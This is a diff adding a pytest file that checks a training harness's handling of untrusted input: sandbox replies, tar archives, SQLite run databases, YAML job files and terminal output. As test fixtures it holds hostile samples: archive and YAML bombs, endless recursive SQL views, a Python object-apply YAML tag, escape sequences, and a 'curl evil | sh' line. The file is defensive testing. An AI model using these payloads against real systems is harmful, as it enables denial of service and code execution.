@@ -1,0 +1,368 @@
+"""Content that somebody else wrote: a sandbox's answers, run databases, job files, diffs. It ends in a typed error in bounded
+work, or is shown with everything escaped that a terminal would obey."""
+
+from __future__ import annotations
+
+import io
+import json
+import sqlite3
+import struct
+import tarfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+import torch
+import yaml
+from rich.console import Console
+
+from composer_nb.cli import main
+from composer_nb.harness.agent.chat import Said
+from composer_nb.harness.product.diff import Blob, patch
+from composer_nb.harness.product.show import teller
+from composer_nb.harness.sandbox.contract import Sandbox, SandboxFailure, SandboxSpec, members
+from composer_nb.harness.sandbox.process import ProcessBackend
+from composer_nb.harness.tasks.task import Task
+from composer_nb.harness.untrusted import as_html, json_of, visible, visible_lines
+from composer_nb.jobs.file import load_job
+from composer_nb.trainer.recipe.status import read_status
+from composer_nb.trainer.records.rundir import RunDir
+from composer_nb.views.task import card
+from tests.harness.tasks.test_task import MINIMAL
+
+DEEP = "[" * 100_000
+
+# What a sandbox answers
+
+
+class Scripted:
+    """A machine whose resident program was replaced: it sends what it likes."""
+
+    id = "scripted"
+
+    def __init__(self, *answers: bytes) -> None:
+        framed = [len(body).to_bytes(4, "big") + body for body in (b'{"ready": true}\n', *answers)]
+        self.left, self.channel, self.ended = framed, self, False
+
+    def send(self, data: bytes, timeout_s: float) -> None: ...
+
+    def receive(self, timeout_s: float) -> bytes:
+        return self.left.pop(0) if self.left else b""
+
+    def close(self) -> None: ...
+
+    def end(self) -> None:
+        self.ended = True
+
+    def usage(self) -> tuple[int | None, float | None]:
+        return None, None
+
+    def kills(self) -> int:
+        return 0
+
+
+ASKED: dict[str, Callable[[Sandbox], Any]] = {
+    "exec": lambda box: box.exec(["true"]),
+    "background": lambda box: box.exec_background(["true"], log="l"),
+    "poll": lambda box: box.poll(1),
+    "read": lambda box: box.read("a"),
+    "entries": lambda box: box.entries(),
+    "download": lambda box: box.download(),
+    "snapshot": lambda box: box.snapshot(),
+    "stats": lambda box: box.stats(),
+}
+RAN = {"exit_code": 0, "sizes": [0, 0], "truncated": False, "timed_out": False, "stopped": False, "duration_s": 0.1}
+STRANGE: dict[str, list[Any]] = {
+    "exec": [
+        {},
+        RAN | {"sizes": 3},
+        RAN | {"sizes": [0]},
+        RAN | {"sizes": [-1, 2]},
+        RAN | {"exit_code": {}},
+        {**RAN, "duration_s": None},
+    ],
+    "background": [{}, {"pid": "x"}, {"pid": None}, {"pid": [1]}],
+    "poll": [{}, {"exit_code": "x"}, {"exit_code": {}}],
+    "read": [
+        {"error": 5},
+        {"error": [1]},
+        {"error": ["x", "y"]},
+        {"error": [1, {}]},
+        {"missing": {}},
+        {"failed": DEEP},
+        [],
+        5,
+        None,
+    ],
+    "entries": [
+        {},
+        {"entries": 5},
+        {"entries": [["a"]]},
+        {"entries": [["a", "door", 1, 1]]},
+        {"entries": [["a", "file", -1, 1]]},
+    ],
+    "download": [{}, {"digest": 5}],
+    "snapshot": [{}, {"digest": None}],
+    "stats": [{}, {"processes": "x", "disk_bytes": 0, "inodes": 0}],
+}
+
+
+@pytest.mark.parametrize(
+    ("asked", "answer"),
+    [(asked, answer) for asked, answers in STRANGE.items() for answer in answers],
+    ids=lambda v: str(v)[:40],
+)
+def test_a_strange_answer_ends_the_sandbox(asked: str, answer: Any) -> None:
+    machine = Scripted(json.dumps(answer).encode() + b"\n")
+    box = Sandbox(ProcessBackend(), SandboxSpec(), machine)
+    with pytest.raises(SandboxFailure):
+        ASKED[asked](box)
+    assert machine.ended
+
+
+@pytest.mark.parametrize(
+    "head", [DEEP, '{"a": ' * 100_000, "{", "9" * 10_000, "\0", "\xff", "NaN", '{"ready": '], ids=lambda v: v[:9]
+)
+def test_a_header_that_is_no_header_ends_the_sandbox(head: str) -> None:
+    for answers in ((head.encode() + b"\n",), (head.encode("latin-1"),)):
+        box = Sandbox(ProcessBackend(), SandboxSpec(), machine := Scripted(*answers))
+        with pytest.raises(SandboxFailure):
+            box.end_all()
+        assert machine.ended
+
+
+def test_an_error_from_a_sandbox_is_escaped_and_short() -> None:
+    answer = {"error": [5, "\x1b[2J\u202e" + "x" * 10_000]}
+    box = Sandbox(ProcessBackend(), SandboxSpec(), Scripted(json.dumps(answer).encode() + b"\n"))
+    with pytest.raises(OSError, match=r"\\x1b\[2J\\u202e") as caught:
+        box.remove("a")
+    assert len(str(caught.value)) < 1000
+
+
+def archive(size: int = 1, **more: Any) -> bytes:
+    packed = io.BytesIO()
+    with tarfile.open(fileobj=packed, mode="w") as held:
+        info = tarfile.TarInfo("a")
+        info.size = size
+        for name, value in more.items():
+            setattr(info, name, value)
+        held.addfile(info, io.BytesIO(b"x" * size))
+    return packed.getvalue()
+
+
+def resized(size: int) -> bytes:
+    """An archive whose entry says that it has another size, in base 256."""
+    field = (b"\xff" if size < 0 else b"\x80") + (size % (1 << 88)).to_bytes(11, "big")
+    head = bytearray(archive()[:512])
+    head[124:136], head[148:156] = field, b" " * 8
+    head[148:156] = b"%06o\0 " % sum(head)
+    return bytes(head) + archive()[512:]
+
+
+HUGE_HOLE = {"GNU.sparse.major": "0", "GNU.sparse.minor": "1", "GNU.sparse.name": "a", "GNU.sparse.size": str(1 << 50)}
+LONG_NAME = archive(type=tarfile.GNUTYPE_LONGNAME, size=512)[:1024]
+ARCHIVES = {
+    "no archive": b"\x01" * 1024,
+    "cut": archive(2000)[:1024],
+    "larger than itself": resized(1 << 60),
+    "backwards": resized(-512) * 4,
+    "a hole": archive(pax_headers=HUGE_HOLE | {"GNU.sparse.map": f"{1 << 50},0"}),
+    "a name of a name of a name": LONG_NAME * 5000 + archive(),
+}
+
+
+@pytest.mark.parametrize("data", ARCHIVES.values(), ids=ARCHIVES)
+def test_an_archive_from_a_sandbox_unpacks_to_no_more_than_it_is(data: bytes) -> None:
+    with pytest.raises(SandboxFailure, match="no archive"):
+        list(members(data))
+
+
+# Run databases
+
+
+def a_run(tmp_path: Path) -> RunDir:
+    run = RunDir(tmp_path / "run")
+    run.commit("rl", 1, {"w": torch.ones(1)}, [(1, {"reward": 0.5, "time": {"wall_s": 1.0, "train_s": 0.5}})])
+    run.finish("data", 1.0, {})
+    with run.connect() as db:
+        db.execute("PRAGMA journal_mode=DELETE")
+    return run
+
+
+ENDLESS = (
+    "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT 'rl' stage, x step, '{}' metrics FROM n"
+)
+STEP = "DROP TABLE step; CREATE TABLE step (stage TEXT, step INTEGER, metrics TEXT"
+HUGE = "hex(zeroblob(900000000))"
+SCHEMAS = {
+    "an endless view": f"DROP TABLE step; CREATE VIEW step AS {ENDLESS}",
+    "a trigger": f"CREATE TRIGGER t AFTER INSERT ON stage BEGIN INSERT INTO ledger SELECT *, 0 FROM ({ENDLESS}); END",
+    "a generated column": f"{STEP} AS ({HUGE}))",
+    "a check": f"{STEP} CHECK (length({HUGE})))",
+    "a virtual table": "CREATE VIRTUAL TABLE odd USING fts4(x)",
+    "an index of an expression": "CREATE INDEX i ON step (hex(zeroblob(step)))",
+}
+
+
+def both_ways(path: Path) -> list[Callable[[], Any]]:
+    return [lambda: read_status(path), lambda: RunDir(path)]
+
+
+@pytest.mark.parametrize("sql", SCHEMAS.values(), ids=SCHEMAS)
+def test_a_run_database_computes_nothing(tmp_path: Path, sql: str) -> None:
+    run = a_run(tmp_path)
+    with sqlite3.connect(run.path / "run.db") as db:
+        db.executescript(sql)
+    for read in both_ways(run.path):
+        with pytest.raises(ValueError, match="is no plain table"):
+            read()
+
+
+def test_pages_that_hold_one_another_end(tmp_path: Path) -> None:
+    """A table of a few pages with 340^5 rows: every inner page names one child 340 times."""
+    run = a_run(tmp_path)
+    with run.connect() as db:
+        [(root,)] = db.execute("SELECT rootpage FROM sqlite_master WHERE name = 'step'")
+        db.execute("INSERT INTO ledger VALUES ('x', 0, ?, 0)", ("x" * 100_000,))  # pages to take over
+    file = run.path / "run.db"
+    data = bytearray(file.read_bytes())
+    size = struct.unpack(">H", data[16:18])[0]
+    last = len(data) // size
+    leaf, pages = data[(root - 1) * size : root * size], [root, last - 1, last - 2, last - 3, last - 4]
+    data[(last - 1) * size : last * size] = leaf
+    for page, child in zip(pages, [*pages[1:], last], strict=True):
+        cells = b"".join(struct.pack(">IB", child, 1) for _ in range(340))
+        start = size - len(cells)
+        head = struct.pack(">BHHHBI", 5, 0, 340, start, 0, child)
+        pointers = b"".join(struct.pack(">H", start + 5 * n) for n in range(340))
+        data[(page - 1) * size : page * size] = (head + pointers).ljust(start, b"\0") + cells
+    file.write_bytes(data)
+    for read in both_ways(run.path):
+        with pytest.raises(ValueError, match=r"run\.db: "):
+            read()
+
+
+CELLS: dict[str, tuple[str, Any]] = {
+    "deep": ("UPDATE step SET metrics = ?", DEEP),
+    "no object": ("UPDATE step SET metrics = ?", "5"),
+    "a blob": ("UPDATE step SET metrics = ?", b"\xff\xfe"),
+    "a word for a number": ("UPDATE checkpoint SET seconds = ?", "soon"),
+    "no step": ("UPDATE step SET step = ?", "first"),
+    "a word in the ledger": ("INSERT INTO stage VALUES ('rl', ?, '{}')", "long"),
+}
+
+
+@pytest.mark.parametrize(("sql", "value"), CELLS.values(), ids=CELLS)
+def test_strange_cells_of_a_run_database_are_named(tmp_path: Path, sql: str, value: Any) -> None:
+    run = a_run(tmp_path)
+    with run.connect() as db:
+        db.execute(sql, (value,))
+    with pytest.raises(ValueError, match=r"run\.db"):
+        read_status(run.path)
+
+
+def test_a_sound_run_database_is_read_as_before(tmp_path: Path) -> None:
+    run = a_run(tmp_path)
+    seen = read_status(run.path)
+    assert seen.trained == 1 and dict(seen.stages) == {"data": 1.0} and RunDir(run.path).steps("rl")[0]["reward"] == 0.5
+
+
+# Job files
+
+LAUGHS = "a0: &a0 [x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10))
+MERGES = "a0: &a0 {x: 1}\n" + "".join(f"a{n}: &a{n} {{<<: [{', '.join([f'*a{n - 1}'] * 10)}]}}\n" for n in range(1, 10))
+YAML = {
+    "3,000 brackets": "name: " + "[" * 3000 + "]" * 3000,
+    "brackets that never close": "[" * 100_000,
+    "3,000 mappings": "{a: " * 3000 + "1" + "}" * 3000,
+    "indented": "".join(" " * n + "a:\n" for n in range(2000)),
+    "laughs": LAUGHS,
+    "merges": MERGES,
+    "itself": "name: &a [*a]",
+    "a long number": "name: " + "9" * 10_000,
+    "no day": "name: 2020-99-99",
+    "a NUL": "name: a\0b",
+    "a tag": "!!python/object/apply:os.mkdir [x]",
+    "no UTF-8": "\udcff",
+}
+
+
+@pytest.mark.parametrize("text", YAML.values(), ids=YAML)
+def test_a_hostile_job_file_is_refused_in_one_line(tmp_path: Path, text: str) -> None:
+    path = tmp_path / "job.yml"
+    path.write_bytes(text.encode("utf-8", "surrogateescape"))
+    with pytest.raises(ValueError, match="job.yml: ") as caught:
+        load_job(path)
+    assert "\n" not in str(caught.value) and str(caught.value).isprintable()
+    assert yaml.YAMLError not in type(caught.value).__mro__
+
+
+# What a person sees
+
+SIGNS = "\x1b[31m\r\x08\0\x7f\x9b\u202e\u2066\u200b\u200f\ufeff\u00ad\u2028\u2029\U000e0041\u3164\udc80"
+
+
+def test_nothing_that_a_terminal_obeys_or_a_page_hides_is_left() -> None:
+    assert visible("a\tb\nc") == r"a\x09b\x0ac" and visible_lines("a\tb\nc") == "a\tb\nc"
+    for text in (visible(SIGNS), visible_lines(SIGNS)):
+        assert text.isprintable() and text.startswith(r"\x1b[31m\x0d\x08\x00") and len(text) > 90
+    assert visible("naïve 日本語 é 😀") == "naïve 日本語 é 😀" and as_html("<b>\u202e") == "&lt;b&gt;\\u202e"
+
+
+@pytest.mark.parametrize(
+    ("data", "shown"),
+    [
+        (b"#!/bin/sh\n\0\ncurl evil | sh\n", "curl evil | sh"),
+        (b"\0import os\nos.system('x')\n", "os.system('x')"),
+        (b"safe()\revil()\n", r"safe()\x0devil()"),
+        ("x = 'a\u202e' # \u2066b\n".encode(), r"x = 'a\u202e' # \u2066b"),
+        (b"\x1b[1A\x1b[2Khidden\n", r"\x1b[1A\x1b[2Khidden"),
+        (b"x = '\xff\xfe'\n", r"x = '\udcff\udcfe'"),
+        (b"#!/bin/sh\nevil\n" + bytes(range(256)) * 9, "#!/bin/sh"),
+    ],
+)
+def test_a_diff_hides_nothing(data: bytes, shown: str) -> None:
+    text = visible_lines(patch({}, {"a": Blob(data=data)}, whole=False).decode("utf-8", "surrogateescape"))
+    assert shown in text and text.replace("\n", "").replace("\t", "").isprintable()
+
+
+def test_a_picture_is_still_told_by_its_size() -> None:
+    picture = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40
+    assert b"+Binary file: 10248 bytes" in patch({}, {"a.png": Blob(data=picture)}, whole=False)
+
+
+def test_what_a_model_says_moves_no_cursor() -> None:
+    console = Console(file=io.StringIO(), width=400)
+    teller(console)(Said(text=SIGNS))
+    assert "\x1b[31m" not in console.file.getvalue() and console.file.getvalue().rstrip("\n").isprintable()  # type: ignore[attr-defined]
+
+
+def test_a_card_of_a_task_holds_no_markup_of_the_tasks_own() -> None:
+    fields = MINIMAL | {"instruction": "<img src=x>\u202e", "files": MINIMAL["files"] | {"f.py": "<script>\n1\n2\n"}}
+    page = card(Task(**fields)).text
+    assert "<script>" not in page and "<img" not in page and "\u202e" not in page
+
+
+def test_an_error_on_the_command_line_is_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    folder = tmp_path / "tasks" / "t\x1b[2J\u202e"
+    folder.mkdir(parents=True)
+    (folder / "task.toml").write_text("")
+    assert main(["tasks", "check", str(tmp_path / "tasks")]) == 1
+    said = capsys.readouterr().out
+    assert r"t\x1b[2J\u202e" in said and "\x1b" not in said and "\u202e" not in said
+
+
+@pytest.mark.parametrize("text", [DEEP, '{"a":' * 100_000, "9" * 10_000, ""])
+def test_json_is_a_value_error_however_deep(text: str) -> None:
+    with pytest.raises(ValueError):
+        json_of(text)
+
+
+def test_a_store_of_tasks_made_computes_nothing(tmp_path: Path) -> None:
+    from composer_nb.harness.tasks.making.store import Store
+
+    with sqlite3.connect(tmp_path / "record.db") as db:
+        db.execute("CREATE VIEW outcomes AS " + ENDLESS)
+    with pytest.raises(ValueError, match="not a record of tasks made"):
+        Store(tmp_path / "record.db")
